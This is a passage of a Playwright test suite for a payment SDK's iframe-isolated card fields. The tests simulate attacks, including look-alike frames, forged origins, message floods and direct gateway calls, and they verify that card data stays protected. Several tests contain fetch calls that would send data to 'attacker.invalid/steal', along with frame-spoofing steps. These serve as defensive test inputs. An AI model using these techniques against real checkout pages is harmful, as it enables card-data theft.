    // Away to another page of another site. (about:blank would do too, but Playwright 1.65 on
    // Chromium 156 sometimes loses track of a frame that goes in-process and back.)
    await page.evaluate(async (away) => {
      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
      const original = iframe.src;
      const loaded = () => new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
      iframe.src = away;
      await loaded();
      iframe.src = original;
      await loaded();
    }, `${demo.fieldsOrigin}/nothing-here`);
    // The reloaded frame said hello again and got a fresh port.
    await expect.poll(cardPorts).toBe(portsBefore + 1);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: replace the card frame with a look-alike that says hello as the card frame: the SDK does not answer it, and the genuine frame comes back empty', async ({ page, demo, checkout, gatewayTraffic }) => {
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    await checkout.fillCard(SECRET_CARD);
    const checkoutId = await cardCheckoutId(page);
    const portsBefore = await page.evaluate(() => window.capturedPorts!.length);
    const hellosBefore = (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length;
    const lookAlike = `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`;
    const original = await page.evaluate((url) => {
      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
      const src = iframe.src;
      iframe.src = url;
      return src;
    }, lookAlike);
    await expect.poll(() => page.frames().some((frame) => frame.url() === lookAlike)).toBe(true);
    const fake = page.frames().find((frame) => frame.url() === lookAlike)!;
    // In the card frame's own iframe element (the right event.source), speaking the protocol, from the wrong origin.
    await fake.evaluate(
      ({ id, merchant }) => {
        window.parent.postMessage({ payframe: 1, type: 'hello', frame: 'card', checkout: id }, merchant);
        window.parent.postMessage({ type: 'tokenize-result', requestId: 'x', result: { paymentMethod: { id: 'pm_fake' } } }, merchant);
      },
      { id: checkoutId, merchant: demo.merchantUrl },
    );
    await expect.poll(async () => (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length).toBe(hellosBefore + 1);
    expect(await page.evaluate(() => window.capturedPorts!.length)).toBe(portsBefore);
    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
    // The genuine frame back in place: it connects again and starts empty; the typed card went with it.
    await page.evaluate((src) => {
      document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!.src = src;
    }, original);
    await expect.poll(() => page.evaluate(() => window.capturedPorts!.length)).toBe(portsBefore + 1);
    for (const kind of ['number', 'expiry', 'cvc'] as const) await expect(checkout.input(kind)).toHaveValue('');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
    expect(gatewayTraffic.tokenizations()).toHaveLength(1);
  });

  test('attack: replace a split field frame with a look-alike: the controller never gets a number from it', async ({ page, demo, split, gatewayTraffic }) => {
    await openSplitPageWithThirdPartyFrames(page, demo.merchantUrl, split);
    await split.fillCard(SECRET_CARD);
    await page.evaluate((lookAlike) => {
      const iframe = document.querySelector('payframe-card-group payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
      iframe.src = lookAlike;
    }, `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`);
    await expect.poll(() => page.frames().some((frame) => frame.url().endsWith('/test-pages/blank.html'))).toBe(true);
    // The SDK still believes the number is complete; the controller asks the fields and the
    // look-alike cannot answer on the fields origin's channel.
    const result = await split.tokenize();
    expect(result).toMatchObject({ error: { code: 'fields_unavailable' } });
    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
  });

  test('attack: remove the card frame and insert it again: it reloads empty and works', async ({ page, checkout }) => {
    await checkout.type('number', '4242');
    const reloads = await page.evaluate(() => {
      const frames = [...document.querySelector('payframe-checkout')!.shadowRoot!.querySelectorAll('iframe')];
      const parents = frames.map((frame) => frame.parentNode!);
      frames.forEach((frame) => frame.remove());
      frames.forEach((frame, index) => parents[index]!.prepend(frame));
      return frames.length;
    });
    expect(reloads).toBe(1);
    await expect(checkout.input('number')).toHaveValue('');
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });

  test('attack: open the card frame page top-level, with a fragment naming the merchant: it stays inert', async ({ page, demo }) => {
    const topLevel = await page.context().newPage();
    await topLevel.goto(cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'TopLevelTopLevelTopLevel', host: demo.merchantUrl }));
    expect(await startedIn(topLevel.mainFrame())).toBe(false);
    // Nothing wired: the number is not even formatted as it is typed.
    await topLevel.locator('input#number').pressSequentially('4242424242424242');
    await expect(topLevel.locator('input#number')).toHaveValue('4242424242424242');
    await expect(topLevel.locator('#number-field')).not.toHaveClass(/complete/);
    await topLevel.close();
  });

  test('attack: embed the card frame from an origin its key does not allow: the browser refuses it (frame-ancestors), and the page would not start there anyway', async ({ page, demo }) => {
    const otherOrigin = demo.merchantUrl.replace('localhost', '127.0.0.1');
    const blocked = await page.context().newPage();
    await blocked.goto(`${otherOrigin}/test-pages/blank.html`);
    await blocked.evaluate((src) => {
      const iframe = document.createElement('iframe');
      iframe.src = src;
      document.body.append(iframe);
      return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
    }, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'AttackAttackAttackAttack', host: otherOrigin }));
    const frame = blocked.frames().find((candidate) => candidate !== blocked.mainFrame())!;
    // Inert: here because the browser refuses it; in a browser that let it render, because the page's
    // own embedder check (frame-params.ts) finds no allowed site of the key in its fragment.
    expect(await startedIn(frame)).toBe(false);
    // The browser refused to render the frame: it never ran our page.
    const ran = await frame.evaluate(() => document.querySelector('input') !== null).catch(() => false);
    expect(ran).toBe(false);
    await blocked.close();
  });

  test('attack: embed the card frame with a forged host in its fragment (an origin its key does not list): it refuses to start', async ({ page, demo }) => {
    const lying = await embedFramePage(page, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'AttackAttackAttackAttack', host: 'https://bank.example' }), 'checkout=AttackAttackAttackAttack');
    expect(await startedIn(lying)).toBe(false);
    // Not even its texts: the placeholders are set when the page starts.
    expect(await lying.evaluate(() => document.querySelector<HTMLInputElement>('input#number')!.placeholder)).toBe('');
  });

  test('attack: a site allowed for the key embeds the card frame naming another allowed site as its host: it refuses to start', async ({ page, demo }) => {
    // The key lists two sites of the merchant; the page on one claims to be the other.
    const otherSite = demo.merchantUrl.replace('localhost', '127.0.0.1');
    const allowed = demo.fieldsConfig.accounts.find((account) => account.publishableKeys.includes(demo.publishableKey))!.allowedOrigins;
    allowed.push(otherSite);
    try {
      const lying = await embedFramePage(page, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'OtherSiteOtherSiteOther', host: otherSite }), 'checkout=OtherSiteOtherSiteOther');
      // Rendered (both sites are frame-ancestors), but the browser says who embeds it, and that is not the host it names.
      expect(await lying.evaluate(() => [document.querySelectorAll('input').length, location.ancestorOrigins[0]])).toEqual([3, demo.merchantUrl]);
      expect(await startedIn(lying)).toBe(false);
      // The same page naming its real embedder starts: the check is about the lie, not the site.
      const honest = await embedFramePage(page, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'HonestHonestHonestHonest', host: demo.merchantUrl }), 'checkout=HonestHonestHonestHonest');
      await expect.poll(() => startedIn(honest)).toBe(true);
    } finally {
      allowed.splice(allowed.indexOf(otherSite), 1);
    }
  });

  test('attack: open one kind of frame page as another (card.html as a number, number.html as the card, cvc.html as a number): none starts', async ({ page, demo }) => {
    const host = new URL(page.url()).origin;
    const pages = [
      ['card.html', 'number', 'CardAsNumberCardAsNumber'],
      ['number.html', 'card', 'NumberAsCardNumberAsCard'],
      ['cvc.html', 'number', 'MixedKindMixedKindMixed'],
    ] as const;
    for (const [file, frame, checkout] of pages) {
      const mixed = await embedFramePage(page, `${demo.fieldsOrigin}/frames/${demo.publishableKey}/${file}#${new URLSearchParams({ frame, checkout, host })}`, `checkout=${checkout}`);
      // Same origin, same host: only the page's own kind is accepted, so no page runs as another.
      expect(await startedIn(mixed), `${file} as ${frame}`).toBe(false);
      expect(await mixed.evaluate(() => document.body.dataset.field ?? null)).toBeNull();
    }
  });

  test('attack: two checkouts on one page: each tokenizes its own card only', async ({ page, demo }) => {
    await page.evaluate((key) => {
      const second = document.createElement('payframe-checkout');
      second.id = 'second';
      second.setAttribute('publishable-key', key);
      document.body.prepend(second);
      return new Promise((resolve) => second.addEventListener('payframe-ready', resolve, { once: true }));
    }, demo.publishableKey);
    const first = new CardFieldsHarness(page, '#checkout');
    const second = new CardFieldsHarness(page, '#second');
    await first.fillCard(SECRET_CARD);
    await second.fillCard({ number: '5555555555554444', expiry: '0530', cvc: '321' });
    const [a, b] = [await first.tokenize(), await second.tokenize()];
    expect('paymentMethod' in a && a.paymentMethod.card.last4).toBe('1111');
    expect('paymentMethod' in b && b.paymentMethod.card.last4).toBe('4444');
    const loot = await page.evaluate(collectLoot);
    expect(findSecrets(loot.records.join('\n'))).toEqual([]);
    expect(findSecrets(loot.records.join('\n'), { number: '5555555555554444', cvc: '321' })).toEqual([]);
  });

  test('attack: flood the card frame with 10,000 window messages and 10,000 port messages while the shopper types', async ({ page, demo, checkout }) => {
    const card = await checkout.frame('number');
    const before = await droppedIn(card);
    const flood = page.evaluate(
      async ({ fieldsOrigin }) => {
        const frame = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
        const port = capturedPortFor('card');
        for (let i = 0; i < 10_000; i++) {
          frame.contentWindow!.postMessage({ payframe: 1, type: 'connect', junk: i }, fieldsOrigin);
          port.postMessage({ type: 'noise', i });
          if (i % 500 === 0) await new Promise((resolve) => setTimeout(resolve, 0));
        }
      },
      { fieldsOrigin: demo.fieldsOrigin },
    );
    await checkout.fillCard(SECRET_CARD);
    await flood;
    await expect(checkout.input('number')).toHaveValue('4111 1111 1111 1111');
    await expect.poll(() => droppedIn(card)).toBe(before + 20_000);
    const result = await checkout.tokenize();
    expect('paymentMethod' in result && result.paymentMethod.card.last4).toBe('1111');
  });
});

test.describe('what a compromised frame could do', () => {
  test('attack: the split field frames cannot send anything anywhere (connect-src none)', async ({ page, checkout, split }) => {
    const group = await harnessFor('split', checkout, split);
    const frame = await group.frame('number');
    const outcome = await frame.evaluate(() => fetch('http://attacker.invalid/steal', { method: 'POST', body: 'x' }).then(() => 'sent', (error: Error) => error.name));
    expect(outcome).toBe('TypeError');
    await expectFieldsStillWorkAndNothingLeaked(page, group);
  });

  for (const { layout, label } of LAYOUTS) {
    test(`attack: ${label} can reach the configured gateway and nothing else`, async ({ page, checkout, split }) => {
      const target = await harnessFor(layout, checkout, split);
      const frame = await paymentFrame(page, target);
      const outcome = await frame.evaluate(() => fetch('http://attacker.invalid/steal').then(() => 'sent', (error: Error) => error.name));
      expect(outcome).toBe('TypeError');
      await expectFieldsStillWorkAndNothingLeaked(page, target);
    });
  }

  test('attack: the fields origin keeps no card data in its storage after a payment', async ({ page, checkout }) => {
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
    const frames = page.frames().filter((candidate) => candidate.url().includes('.html#frame='));
    expect(frames.some((frame) => frame.url().includes('/card.html#'))).toBe(true);
    for (const frame of frames) {
      const stored = await frame.evaluate(async () => {
        const databases = (await indexedDB.databases?.()) ?? [];
        return JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, databases });
      });
      expect(findSecrets(stored)).toEqual([]);
      expect(stored).toBe('{"local":{},"session":{},"cookie":"","databases":[]}');
    }
  });

  test('attack: the gateway refuses the merchant origin (CORS and Origin check), so a page cannot tokenize itself', async ({ page, demo, checkout }) => {
    // On a page whose own CSP would not stop the request: the gateway has to.
    await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
    const key = demo.publishableKey;
    const body = 'type=card&card[number]=4242424242424242&card[exp_month]=12&card[exp_year]=2034';
    // With the key in a header the browser asks first (preflight) and the gateway says no.
    const preflighted = await page.evaluate(
      ({ gatewayUrl, key, body }) =>
        fetch(`${gatewayUrl}/v1/payment_methods`, { method: 'POST', headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/x-www-form-urlencoded' }, body }).then(
          () => 'answered',
          (error: Error) => error.name,
        ),
      { gatewayUrl: demo.gatewayUrl, key, body },
    );
    expect(preflighted).toBe('TypeError');
    // A "simple" request leaves without asking; the gateway's Origin check refuses it unread.
    const refused = page.waitForResponse((response) => response.url() === `${demo.gatewayUrl}/v1/payment_methods` && response.request().method() === 'POST');
    await page.evaluate(({ gatewayUrl, body }) => fetch(`${gatewayUrl}/v1/payment_methods`, { method: 'POST', mode: 'no-cors', body: new URLSearchParams(body) }), { gatewayUrl: demo.gatewayUrl, body });
    expect((await refused).status()).toBe(403);
    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
  });
});

test.beforeEach(async ({ page }) => {
  await page.evaluate(`window.capturedPortFor = ${capturedPort.toString()}`);
});
